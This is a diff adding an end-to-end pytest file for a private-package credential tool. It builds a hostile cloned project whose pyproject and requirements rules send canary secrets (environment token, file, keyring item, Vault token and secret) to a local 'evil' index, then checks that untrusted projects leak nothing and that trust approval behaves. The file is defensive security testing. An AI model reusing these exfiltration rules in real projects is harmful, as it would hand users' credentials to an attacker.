@@ -1,0 +1,345 @@
+"""A hostile cloned project against an evil index on 127.0.0.1 (issue #11, DESIGN.md
+"Trust"). The victim holds five canaries: an environment variable, a file under HOME, a
+keyrings.alt item, a Vault token and a Vault secret in a real OpenBao. The project's rules
+send each to the evil server (support/evil_server.py, which keeps every header it gets),
+and its `[tool.private-packages.vault] addr` points there too.
+
+Untrusted, every client -- plain pip with `--keyring-provider import`, `pip-private
+install/download/doctor/render`, uv through the keyring CLI, twine, git through the helper,
+`poetry lock/install/source check` with the plugin -- hands the evil server none of them in
+any form, and each client did talk to it. After `trust` the same rules work; a change of
+destination or reference makes the project untrusted again; an unrelated edit does not;
+`CI=true` and `PRIVATE_PACKAGES_TRUST=1` trust it.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Optional
+
+import pytest
+
+from support.evil_server import EvilServer
+from support.openbao import CountingProxy, OpenBaoServer
+from support.wheels import build_wheel
+from tests.conftest import BIN, make_canary, shared_venv
+from tests.leaks import assert_not_in_texts
+from tests.poetry_env import poetry_for
+
+pytestmark = [pytest.mark.e2e, pytest.mark.usefixtures("fresh_vault_cache")]
+
+KEYRING_SERVICE = "https://upload.pypi.org/legacy/"
+READ_CI = 'path "secret/data/ci/*" { capabilities = ["read"] }'
+SOURCES = ("env", "file", "keyring", "vault")
+
+
+def hostile_pyproject(evil: str, *, version: str = "0.1.0", file_ref: str = "token",
+                      vault_table: bool = True) -> str:
+    sources = "".join(
+        f'\n[[tool.poetry.source]]\nname = "{name}"\nurl = "{evil}/{name}/simple/"\n'
+        f'priority = "{"primary" if name == "env" else "supplemental"}"\n' for name in SOURCES)
+    vault = f'\n[tool.private-packages.vault]\naddr = "{evil}"\n' if vault_table else ""
+    return f"""\
+[project]
+name = "victim-app"
+version = "{version}"
+requires-python = ">=3.9"
+dependencies = ["acme-internal"]
+
+[tool.poetry]
+package-mode = false
+{sources}
+[[tool.private-packages.credentials]]
+source = "env"
+username = "u"
+password = "${{VICTIM_TOKEN}}"
+
+[[tool.private-packages.credentials]]
+url = "{evil}/file"
+username = "u"
+password = "${{file:~/.secrets/{file_ref}}}"
+
+[[tool.private-packages.credentials]]
+url = "{evil}/keyring"
+username = "u"
+password = "${{keyring:{KEYRING_SERVICE}#__token__}}"
+
+[[tool.private-packages.credentials]]
+url = "{evil}/vault"
+username = "u"
+password = "${{vault:secret/ci/pypi#token}}"
+{vault}"""
+
+
+@pytest.fixture(scope="session")
+def victim_bin(tmp_path_factory: pytest.TempPathFactory, project_wheel: Path) -> Path:
+    """pip, keyring with keyrings.alt (the victim's keyring item), twine, and our wheel."""
+    return shared_venv(tmp_path_factory, "trust-victim", "--upgrade", "pip", "keyring",
+                       "keyrings.alt", "twine",
+                       f"private-packages[vault] @ {project_wheel.as_uri()}", seed=True)
+
+
+@pytest.fixture(scope="module")
+def bao() -> Iterator[OpenBaoServer]:
+    with OpenBaoServer() as server:
+        server.create_policy("read-ci", READ_CI)
+        yield server
+
+
+@dataclass
+class Victim:
+    evil: EvilServer
+    project: Path
+    home: Path
+    bin: Path
+    env: dict[str, str]
+    canaries: dict[str, str]
+    outputs: dict[str, str] = field(default_factory=dict)
+
+    def run(self, *argv: str, cwd: Optional[Path] = None, input: Optional[str] = None,
+            extra: Optional[dict[str, str]] = None) -> subprocess.CompletedProcess[str]:
+        result = subprocess.run(list(argv), cwd=cwd or self.project, input=input,
+                                env={**self.env, **(extra or {})}, capture_output=True,
+                                text=True, timeout=300, check=False)
+        label = f"{Path(argv[0]).name} {' '.join(argv[1:3])} #{len(self.outputs)}"
+        self.outputs[label] = result.stdout + result.stderr
+        return result
+
+    def pip(self, *args: str, extra: Optional[dict[str, str]] = None,
+            ) -> subprocess.CompletedProcess[str]:
+        """Plain pip asking our backend for every index of requirements.txt."""
+        return self.run(str(self.bin / "python"), "-m", "pip", "install", "--no-cache-dir",
+                        "--keyring-provider", "import", "--target", str(self.home / "t"),
+                        "-r", "requirements.txt", *args, extra=extra)
+
+    def leaked(self) -> dict[str, list[str]]:
+        """Canary -> the evil server's requests that carried it (in any form)."""
+        return {label: hits for label, value in self.canaries.items()
+                if (hits := self.evil.saw(value, "u"))}
+
+    def assert_outputs_clean(self) -> None:
+        for value in self.canaries.values():
+            assert_not_in_texts(value, self.outputs, username="u")
+
+
+@pytest.fixture
+def victim(tmp_path: Path, client_env: dict[str, str], home: Path, victim_bin: Path,
+           bao: OpenBaoServer) -> Iterator[Victim]:
+    canaries = {"env": make_canary("env"), "file": make_canary("file"),
+                "keyring": make_canary("keyring"), "vault secret": make_canary("vault"),
+                "vault token": bao.create_token(["read-ci"])}
+    bao.put_v2("ci/pypi", {"token": canaries["vault secret"]})
+    (home / ".secrets").mkdir()
+    (home / ".secrets" / "token").write_text(canaries["file"] + "\n")
+    env = {**client_env, "VICTIM_TOKEN": canaries["env"], "VAULT_ADDR": bao.addr,
+           "VAULT_TOKEN": canaries["vault token"], "GIT_TERMINAL_PROMPT": "0",
+           "PATH": f"{victim_bin}:{client_env['PATH']}"}
+    subprocess.run([str(victim_bin / "python"), "-c",
+                    "import sys; from keyrings.alt.file import PlaintextKeyring; "
+                    "PlaintextKeyring().set_password(sys.argv[1], '__token__', sys.argv[2])",
+                    KEYRING_SERVICE, canaries["keyring"]], env=env, check=True)
+    with EvilServer() as evil:
+        project = tmp_path / "cloned"
+        project.mkdir()
+        (project / "pyproject.toml").write_text(hostile_pyproject(evil.url))
+        (project / "requirements.txt").write_text(
+            f"--index-url {evil.url}/env/simple/\n" + "".join(
+                f"--extra-index-url {evil.url}/{name}/simple/\n" for name in SOURCES[1:])
+            + "acme-internal\n")
+        yield Victim(evil, project, home, victim_bin, env, canaries)
+
+
+def test_untrusted_project_gets_nothing_from_any_client(
+        victim: Victim, poetry_vault_bin: Path, tmp_path: Path) -> None:
+    evil, bin_dir = victim.evil, victim.bin
+    clients: dict[str, list[str]] = {
+        "pip": [str(bin_dir / "python"), "-m", "pip", "install", "--no-cache-dir",
+                "--keyring-provider", "import", "--target", str(tmp_path / "t1"),
+                "-r", "requirements.txt"],
+        "pip-private install": [str(bin_dir / "pip-private"), "install", "--no-cache-dir",
+                                "--target", str(tmp_path / "t2"), "-r", "requirements.txt"],
+        "pip-private download": [str(bin_dir / "pip-private"), "download", "--no-cache-dir",
+                                 "-d", str(tmp_path / "dl"), "-r", "requirements.txt"],
+        "pip-private doctor": [str(bin_dir / "pip-private"), "doctor", "--timeout", "5",
+                               "-r", "requirements.txt"],
+        "uv": [str(BIN / "uv"), "pip", "install", "--python", str(bin_dir / "python"),
+               "--target", str(tmp_path / "t3"), "--no-cache", "--keyring-provider",
+               "subprocess", "--index-url", evil.url.replace("://", "://u@") + "/env/simple/",
+               "acme-internal"],
+        "twine": [str(bin_dir / "twine"), "upload", "--non-interactive", "--repository-url",
+                  f"{evil.url}/env/", str(build_wheel(tmp_path / "dist", "victim-lib", "1.0"))],
+        "git": ["git", "-c", "credential.helper=", "-c", "credential.helper="
+                f"!{bin_dir / 'git-credential-private-packages'} --project-dir {victim.project}",
+                "-c", "credential.useHttpPath=true", "ls-remote", f"{evil.url}/env/repo.git"],
+    }
+    for name, argv in clients.items():
+        before = len(evil.requests)
+        result = victim.run(*argv)
+        assert len(evil.requests) > before, f"{name} never reached the evil server"
+        assert result.returncode != 0, name
+        if name.startswith("pip-private"):
+            assert "is not trusted" in result.stdout + result.stderr, name
+            assert "Traceback" not in result.stderr, name
+    doctor = victim.outputs[next(k for k in victim.outputs if k.startswith("pip-private doctor"))]
+    assert "UNTRUSTED" in doctor and "withheld" in doctor
+
+    poetry = poetry_for(poetry_vault_bin, victim.env, victim.home)
+    for args in (("lock",), ("install",), ("source", "check", "--timeout", "5")):
+        before = len(evil.requests)
+        result = poetry.run(*args, cwd=victim.project, check=False)
+        assert result.returncode != 0, args
+        assert len(evil.requests) > before, f"poetry {args} never reached the evil server"
+        assert "is not trusted" in result.stdout + result.stderr, args
+    victim.outputs.update(poetry.outputs)
+
+    assert victim.leaked() == {}
+    assert evil.credentials_seen == []  # not even a wrong one: nothing was sent at all
+    victim.assert_outputs_clean()
+
+
+def test_trust_then_edits_then_ci(victim: Victim, poetry_vault_bin: Path) -> None:
+    evil = victim.evil
+    result = victim.run(str(victim.bin / "pip-private"), "trust", input="y\n")
+    assert result.returncode == 0, result.stderr
+    assert "${VICTIM_TOKEN} (username" not in result.stdout  # a literal username is not shown
+    assert f"${{VICTIM_TOKEN}} to {evil.url}/env" in result.stdout
+    assert f"your Vault login (addr = {evil.url}) to {evil.url}" in result.stdout
+
+    victim.pip()  # trusted: the project's rules answer, its vault addr is used
+    leaked = victim.leaked()
+    assert set(leaked) == {"env", "file", "keyring", "vault token"}, leaked
+    assert any(r.vault_token == victim.canaries["vault token"] for r in evil.requests)
+
+    poetry = poetry_for(poetry_vault_bin, victim.env, victim.home)
+    evil.clear()
+    poetry.run("lock", cwd=victim.project, check=False)
+    assert "env" in victim.leaked()
+
+    pyproject = victim.project / "pyproject.toml"
+    (victim.home / ".secrets" / "other").write_text("other file\n")
+    for edit in (hostile_pyproject(evil.url, file_ref="other"),  # a reference
+                 hostile_pyproject(evil.url).replace("/file", "/file2")):  # a destination
+        pyproject.write_text(edit)
+        evil.clear()
+        result = victim.pip()
+        assert victim.leaked() == {}, edit
+        assert "what it sends where changed since you approved it" in result.stderr
+
+    pyproject.write_text(hostile_pyproject(evil.url, version="9.9.9"))  # unrelated
+    evil.clear()
+    victim.pip()
+    assert set(victim.leaked()) == {"env", "file", "keyring", "vault token"}
+
+    assert victim.run(str(victim.bin / "pip-private"), "trust", "--revoke").returncode == 0
+    evil.clear()
+    victim.pip()
+    assert victim.leaked() == {}
+    for variable in ("CI", "PRIVATE_PACKAGES_TRUST"):
+        evil.clear()
+        victim.pip(extra={variable: "true"})
+        assert "env" in victim.leaked(), variable
+    victim.outputs.update(poetry.outputs)
+
+
+def test_vault_secret_from_the_users_openbao(victim: Victim, bao: OpenBaoServer) -> None:
+    """Without a project [vault] table the rule reads the user's own OpenBao: untrusted,
+    OpenBao is not even asked; trusted (by `poetry source trust`'s twin, the answer y on a
+    pipe), the secret reaches the index the project chose."""
+    evil = victim.evil
+    (victim.project / "pyproject.toml").write_text(
+        hostile_pyproject(evil.url, vault_table=False))
+    with CountingProxy(bao.addr) as proxy:
+        extra = {"VAULT_ADDR": proxy.addr}
+        victim.pip(extra=extra)
+        assert victim.leaked() == {}
+        assert proxy.requests == []
+        assert victim.run(str(victim.bin / "pip-private"), "trust", input="yes\n",
+                          extra=extra).returncode == 0
+        victim.pip(extra=extra)
+        assert "vault secret" in victim.leaked() and "vault token" not in victim.leaked()
+        assert proxy.count("GET", "/v1/secret/data/ci/pypi") == 1
+
+
+@pytest.mark.parametrize("reference", ["${file:~/.secrets/token}",
+                                       f"${{keyring:{KEYRING_SERVICE}#__token__}}",
+                                       "${vault:secret/ci/pypi#token}"])
+def test_untrusted_requirements_file_references_exit_2(victim: Victim, reference: str) -> None:
+    evil = victim.evil
+    (victim.project / "req-hostile.txt").write_text(
+        f"--extra-index-url {evil.url.replace('://', '://u:' + reference + '@')}/r/simple/\n"
+        "--extra-index-url https://u:${VICTIM_TOKEN}@example.invalid/simple/\n")
+    for verb in ("render", "install"):
+        result = victim.run(str(victim.bin / "pip-private"), verb, "-r", "req-hostile.txt")
+        assert result.returncode == 2, result.stderr
+        [error] = [line for line in result.stderr.splitlines() if "error" in line]
+        assert f"{reference} is not resolved" in error
+        assert f"pip-private trust {victim.project}" in error
+    assert evil.requests == [] and victim.leaked() == {}
+    victim.assert_outputs_clean()
+    # `${NAME}` renders in an untrusted project too: pip itself expands it (parity).
+    (victim.project / "req-env.txt").write_text(
+        "--extra-index-url https://u:${VICTIM_TOKEN}@example.invalid/simple/\n")
+    result = victim.run(str(victim.bin / "pip-private"), "render", "-r", "req-env.txt")
+    assert result.returncode == 0 and "https://u:****@example.invalid" in result.stdout
+
+
+def test_a_parent_pyproject_of_another_uid_is_ignored(victim: Victim, tmp_path: Path) -> None:
+    shared = tmp_path / "shared"
+    checkout = shared / "checkout"
+    checkout.mkdir(parents=True)
+    (shared / "pyproject.toml").write_text(hostile_pyproject(victim.evil.url))
+    (checkout / "requirements.txt").write_text(
+        (victim.project / "requirements.txt").read_text())
+    assert victim.run(str(victim.bin / "pip-private"), "trust", "--yes",
+                      cwd=checkout).returncode == 0  # approved while it was yours
+    victim.run(str(victim.bin / "python"), "-m", "pip", "download", "--no-cache-dir",
+               "--keyring-provider", "import", "-d", "dl", "-r", "requirements.txt",
+               cwd=checkout)
+    assert "env" in victim.leaked()
+    victim.evil.clear()
+    os.chown(shared / "pyproject.toml", 12345, 12345)
+    result = victim.run(str(victim.bin / "python"), "-m", "pip", "download", "--no-cache-dir",
+                        "--keyring-provider", "import", "-d", "dl", "-r", "requirements.txt",
+                        cwd=checkout)
+    assert victim.evil.requests and victim.leaked() == {}
+    assert "is not trusted" not in result.stderr  # not even read
+
+
+def test_concurrent_trust_runs_keep_every_record(victim: Victim, tmp_path: Path) -> None:
+    folders = [tmp_path / f"proj{i}" for i in range(6)]
+    for folder in folders:
+        folder.mkdir()
+        (folder / "pyproject.toml").write_text(hostile_pyproject(victim.evil.url))
+    processes = [subprocess.Popen([str(victim.bin / "pip-private"), "trust", "--yes"],
+                                  cwd=folder, env=victim.env, stdout=subprocess.DEVNULL)
+                 for folder in folders]
+    assert [p.wait(timeout=120) for p in processes] == [0] * 6
+    state = victim.home / ".local" / "state" / "private-packages" / "trust.json"
+    recorded = json.loads(state.read_text())["projects"]
+    assert sorted(recorded) == sorted(str(folder) for folder in folders)
+
+
+def test_poetry_source_trust_asks_and_auth_records_its_own_edit(
+        victim: Victim, poetry_vault_bin: Path) -> None:
+    poetry = poetry_for(poetry_vault_bin, victim.env, victim.home)
+    declined = poetry.run("source", "trust", cwd=victim.project, input="n\n", check=False)
+    assert declined.returncode == 1
+    assert "Trust this project? [y/N]" in declined.stdout
+    assert f"${{VICTIM_TOKEN}} to {victim.evil.url}/env" in declined.stdout
+    # auth writes a rule into a project with content the user never approved: no approval
+    auth = poetry.run("source", "auth", "env", "--token-env", "OTHER_TOKEN", cwd=victim.project)
+    assert "is not trusted, and this does not trust it" in auth.stdout
+    accepted = poetry.run("source", "trust", cwd=victim.project, input="y\n")
+    assert f"Trusted {victim.project}" in accepted.stdout
+    auth = poetry.run("source", "auth", "env", "--token-env", "VICTIM_TOKEN",
+                      cwd=victim.project)
+    assert "Recorded your approval" in auth.stdout
+    listed = poetry.run("source", "trust", "--list", cwd=victim.project)
+    assert f"{victim.project}  approved" in listed.stdout and "(holds)" in listed.stdout
+    victim.outputs.update(poetry.outputs)
+    victim.assert_outputs_clean()
